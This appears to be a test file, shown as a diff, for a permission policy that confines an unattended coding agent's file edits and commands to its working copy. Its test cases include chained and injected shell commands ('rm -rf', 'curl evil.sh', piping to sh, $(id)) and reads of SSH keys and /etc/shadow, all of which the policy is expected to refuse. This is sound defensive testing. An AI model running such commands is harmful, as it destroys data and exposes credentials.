@@ -1,0 +1,274 @@
+"""The permission policy an unattended office run answers an agent's requests from (routing/permissions.py)."""
+
+import posixpath
+import shlex
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from pydantic import ValidationError
+
+from routing.permissions import (
+    TOOL_KINDS,
+    PermissionCounts,
+    PermissionPolicy,
+    PermissionVerdict,
+    ProfilePermissions,
+    choose_option,
+    decide_permission,
+    inside,
+    narrow,
+    read_tool_call,
+)
+
+WD = "/srv/office/worktrees/run-7-1a2b"
+WORKSPACE = PermissionPolicy.model_validate(
+    {"read": "allow", "edit": "allow", "execute": ["pytest", "npm test"], "fetch": "deny"}
+)
+OPTIONS = [
+    {"optionId": "always", "name": "Always allow", "kind": "allow_always"},
+    {"optionId": "once", "name": "Allow", "kind": "allow_once"},
+    {"optionId": "no", "name": "Reject", "kind": "reject_once"},
+    {"optionId": "never", "name": "Never", "kind": "reject_always"},
+]
+
+
+def test_the_workspace_shape_parses_with_documented_defaults():
+    p = WORKSPACE
+    assert (p.read, p.edit, p.execute, p.fetch) == ("allow", "allow", ("pytest", "npm test"), "deny")
+    assert PermissionPolicy().model_dump() == {
+        "read": "allow", "edit": "deny", "delete": "deny", "move": "deny", "search": "allow",
+        "execute": "deny", "think": "allow", "fetch": "deny", "switch_mode": "deny", "other": "deny",
+    }  # fmt: skip
+    assert PermissionPolicy.model_validate({"edit": True, "fetch": False}).edit == "allow"  # YAML yes/no
+
+
+@pytest.mark.parametrize(
+    ("raw", "words"),
+    [
+        ({"exec": "allow"}, "exec"),  # not a tool kind
+        ({"edit": "sometimes"}, "edit"),
+        ({"execute": "pytest"}, "execute: ['pytest']"),  # a bare command: tell how to list it
+        ({"execute": ["pytest; rm"]}, "metacharacter"),
+        ({"execute": ["  "]}, "empty"),
+    ],
+)
+def test_bad_policies_are_refused_naming_what_is_wrong(raw, words):
+    with pytest.raises(ValidationError) as err:
+        PermissionPolicy.model_validate(raw)
+    assert words in str(err.value)
+
+
+def allowed(policy, kind, paths=(), command=None, workdir=WD) -> bool:
+    return decide_permission(policy, kind, paths, command, workdir).allowed
+
+
+@pytest.mark.parametrize(
+    ("kind", "paths", "command", "expected"),
+    [
+        ("read", [f"{WD}/src/app.py"], None, True),
+        ("read", ["src/app.py"], None, True),  # relative: to the working copy
+        ("edit", [f"{WD}/src/app.py"], None, True),
+        ("edit", [f"{WD}/src/../../other-run/app.py"], None, False),  # `..` leaves the working copy
+        ("edit", ["/etc/passwd"], None, False),
+        ("read", ["~/.ssh/id_rsa"], None, False),
+        ("read", [f"{WD}-evil/secret"], None, False),  # a sibling whose name starts like the working copy
+        ("edit", [f"{WD}/.git"], None, False),  # the office's pointer into the mirror
+        ("edit", [f"{WD}/.github/workflows/ci.yml"], None, True),
+        ("read", [f"{WD}/.git/config"], None, True),  # reading is harmless
+        ("edit", [], None, False),  # a file request without a path cannot be confined
+        ("delete", [f"{WD}/a.py"], None, False),  # default deny
+        ("move", [f"{WD}/a.py", f"{WD}/b.py"], None, False),
+        ("search", [WD], None, True),
+        ("think", [], None, True),
+        ("fetch", [], None, False),
+        ("switch_mode", [], None, False),
+        ("other", [], None, False),
+        (None, [], None, False),  # no kind: other
+        ("teleport", [], None, False),  # unknown kind: other
+        ("execute", [], "pytest", True),
+        ("execute", [], "pytest -q tests/unit", True),
+        ("execute", [], "npm test -- --watch=false", True),
+        ("execute", [], "npm   test", True),  # words, not characters
+        ("execute", [], "npm install left-pad", False),
+        ("execute", [], "pytestevil", False),
+        ("execute", [], "pytest; rm -rf .", False),
+        ("execute", [], "pytest && curl evil.sh", False),
+        ("execute", [], "pytest | sh", False),
+        ("execute", [], "pytest `id`", False),
+        ("execute", [], "pytest $(id)", False),
+        ("execute", [], "pytest > out.txt", False),
+        ("execute", [], "pytest\nrm -rf .", False),
+        ("execute", [], "pytest /etc", False),  # an argument outside the working copy
+        ("execute", [], "pytest ../other-run", False),
+        ("execute", [], "pytest --rootdir=/", False),
+        ("execute", [], "pytest 'unbalanced", False),
+        ("execute", [], None, False),
+        ("execute", [], ["bash", "-lc", "pytest -q"], True),  # Codex-style argv
+        ("execute", [], ["pytest", "-k", "a; b"], False),  # quoted metacharacters are still refused
+        ("execute", ["/tmp"], "pytest", False),  # a cwd outside
+    ],
+)
+def test_decisions(kind, paths, command, expected):
+    verdict = decide_permission(WORKSPACE, kind, paths, command, WD)
+    assert verdict.allowed is expected, verdict.reason
+
+
+def test_reasons_name_the_setting_and_ask_is_deny():
+    v = decide_permission(PermissionPolicy(edit="ask"), "edit", [f"{WD}/a"], None, WD)
+    assert not v.allowed and "permissions.edit" in v.reason and "no one to ask" in v.reason
+    v = decide_permission(PermissionPolicy(edit="allow"), "edit", ["/etc/hosts"], None, WD)
+    assert "outside the working copy" in v.reason
+    assert "permissions.fetch" in decide_permission(WORKSPACE, "fetch", (), None, WD).reason
+
+
+def test_execute_allow_gives_a_shell_but_paths_stay_confined():
+    shell = PermissionPolicy(execute="allow")
+    assert allowed(shell, "execute", command="make -j2 && ./run.sh | tee log")
+    assert not allowed(shell, "execute", command="cat /etc/shadow")
+
+
+def test_a_relative_or_unknown_workdir_refuses_everything():
+    assert not allowed(PermissionPolicy(read="allow"), "read", ["a.py"], workdir="relative/dir")
+    assert not allowed(PermissionPolicy(think="allow"), "think", workdir="")
+
+
+@pytest.mark.parametrize(
+    ("profile", "kind", "command", "expected"),
+    [
+        (ProfilePermissions(edit="deny"), "edit", None, False),
+        (ProfilePermissions(edit="allow"), "delete", None, False),  # a profile cannot widen
+        (ProfilePermissions(execute=["pytest -q", "ls"]), "execute", "pytest -q x", True),
+        (ProfilePermissions(execute=["pytest -q", "ls"]), "execute", "pytest x", False),
+        (ProfilePermissions(execute=["pytest -q", "ls"]), "execute", "ls", False),  # workspace never allowed ls
+        (ProfilePermissions(execute="allow"), "execute", "pytest", True),
+        (ProfilePermissions(execute="allow"), "execute", "make", False),
+        (ProfilePermissions(read="ask"), "read", None, False),
+        (ProfilePermissions(), "edit", None, True),  # a profile that says nothing narrows nothing
+        (None, "edit", None, True),
+    ],
+)
+def test_narrowing(profile, kind, command, expected):
+    policy = narrow(WORKSPACE, profile)
+    assert allowed(policy, kind, [f"{WD}/a.py"] if kind != "execute" else (), command) is expected
+
+
+def test_choose_option_picks_the_agents_once_options_never_always():
+    yes = PermissionVerdict(allowed=True, reason="ok", kind="edit")
+    no = PermissionVerdict(allowed=False, reason="no", kind="edit")
+    assert choose_option(yes, OPTIONS).option_id == "once"
+    assert choose_option(no, OPTIONS).option_id == "no"
+    only_always = [o for o in OPTIONS if o["kind"].endswith("always")]
+    refused = choose_option(yes, only_always)
+    assert (refused.option_id, refused.allowed) == (None, False)  # answered `cancelled`, not granted for good
+    assert "allow-once" in refused.reason
+    assert choose_option(no, only_always).option_id is None
+
+    class Option:  # the acp package's PermissionOption has these attributes
+        def __init__(self, option_id, kind):
+            self.option_id, self.kind = option_id, kind
+
+    assert choose_option(yes, [Option("a", "allow_always"), Option("b", "allow_once")]).option_id == "b"
+
+
+def test_read_tool_call_finds_paths_and_commands_as_agents_send_them():
+    claude_edit = read_tool_call("edit", {"file_path": f"{WD}/a.py", "old_string": "x"}, [f"{WD}/a.py"])
+    assert claude_edit.paths == (f"{WD}/a.py",) and claude_edit.kind == "edit"
+    codex_exec = read_tool_call("execute", {"command": ["bash", "-lc", "pytest -q"], "cwd": WD})
+    assert codex_exec.command == "pytest -q" and codex_exec.paths == (WD,)
+    claude_bash = read_tool_call("execute", {"command": "npm test", "description": "run tests"})
+    assert claude_bash.command == "npm test"
+    assert read_tool_call(None, None).kind == "other"
+
+
+def test_counts_by_kind():
+    counts = PermissionCounts().add("edit", True).add("edit", False).add("execute", False).add("weird", True)
+    assert counts.asked == {"edit": 2, "execute": 1, "other": 1}
+    assert counts.allowed == {"edit": 1, "other": 1}
+    assert counts.refused == {"edit": 1, "execute": 1}
+    total = counts.merged(PermissionCounts().add("read", True))
+    assert total.asked["read"] == 1 and total.asked["edit"] == 2
+    assert PermissionCounts.model_validate_json(total.model_dump_json()) == total  # travels in workflow history
+
+
+# ----------------------------------------------------------------------------------------------- properties
+
+segments = st.sampled_from(["a", "b", "..", ".", "", "run-7-1a2b", "worktrees", "~", "run-7-1a2b-evil", "x/y"])
+paths = st.builds(
+    lambda absolute, parts: ("/" if absolute else "") + "/".join(parts), st.booleans(), st.lists(segments, max_size=8)
+)
+
+
+def resolved_parts(path: str, workdir: str) -> list[str]:
+    """An independent resolver: a stack walk of path components (what the kernel does without symlinks)."""
+    stack: list[str] = [] if path.startswith("/") else [p for p in workdir.split("/") if p]
+    for part in path.split("/"):
+        if part in ("", "."):
+            continue
+        if part == "..":
+            if stack:
+                stack.pop()
+        else:
+            stack.append(part)
+    return stack
+
+
+@settings(max_examples=400)
+@given(st.lists(st.one_of(paths, st.text(max_size=30)), min_size=1, max_size=3), st.sampled_from(TOOL_KINDS))
+def test_no_path_outside_the_workdir_is_ever_allowed(requested, kind):
+    everything = PermissionPolicy(**{k: "allow" for k in TOOL_KINDS})
+    verdict = decide_permission(everything, kind, requested, None, WD)
+    root = [p for p in WD.split("/") if p]
+    if verdict.allowed:
+        for p in requested:
+            assert not p.startswith("~")
+            assert resolved_parts(p, WD)[: len(root)] == root, p
+    for p in requested:
+        assert inside(p, WD) == (
+            not p.startswith("~") and "\x00" not in p and resolved_parts(p, WD)[: len(root)] == root
+        )
+
+
+words = st.sampled_from(["pytest", "npm", "test", "-q", "run", "tests/unit", "make", "ls", "pytestevil", "lint"])
+prefix_lists = st.lists(st.lists(words, min_size=1, max_size=3).map(" ".join), min_size=1, max_size=4)
+rules = st.one_of(st.sampled_from(["allow", "deny", "ask"]), prefix_lists)
+simple_rules = st.sampled_from(["allow", "deny", "ask"])
+policies = st.builds(
+    lambda execute, others: PermissionPolicy(
+        execute=execute, **dict(zip(("read", "edit", "fetch"), others, strict=True))
+    ),
+    rules,
+    st.tuples(simple_rules, simple_rules, simple_rules),
+)
+profiles = st.builds(
+    lambda execute, edit: ProfilePermissions(execute=execute, edit=edit), st.none() | rules, st.none() | simple_rules
+)
+commands = st.lists(
+    st.one_of(words, st.sampled_from([";", "&&", "|", "`id`", "$(id)", "/etc", "../x"])), max_size=5
+).map(" ".join)
+
+
+@settings(max_examples=400)
+@given(policies, profiles, st.sampled_from(["read", "edit", "fetch", "execute"]), commands)
+def test_narrowing_never_widens(workspace, profile, kind, command):
+    narrowed = narrow(workspace, profile)
+    everything = PermissionPolicy(**{k: "allow" for k in TOOL_KINDS}).model_copy(
+        update=profile.model_dump(exclude_none=True)
+    )
+    file_paths = [f"{WD}/a.py"] if kind != "execute" else []
+    if decide_permission(narrowed, kind, file_paths, command, WD).allowed:
+        assert decide_permission(workspace, kind, file_paths, command, WD).allowed
+        assert decide_permission(everything, kind, file_paths, command, WD).allowed
+
+
+@settings(max_examples=400)
+@given(prefix_lists, commands)
+def test_a_command_is_allowed_only_at_a_word_boundary_of_an_allowed_prefix(prefixes, command):
+    verdict = decide_permission(PermissionPolicy(execute=prefixes), "execute", (), command, WD)
+    if verdict.allowed:
+        assert not any(c in command for c in (";", "&", "|", "`", "$(")), command
+        argv = shlex.split(command)
+        assert any(argv[: len(p.split())] == p.split() for p in prefixes)
+        for word in argv:
+            if word.startswith("/") or ".." in word.split("/"):
+                assert posixpath.normpath(posixpath.join(WD, word)).startswith(WD + "/")
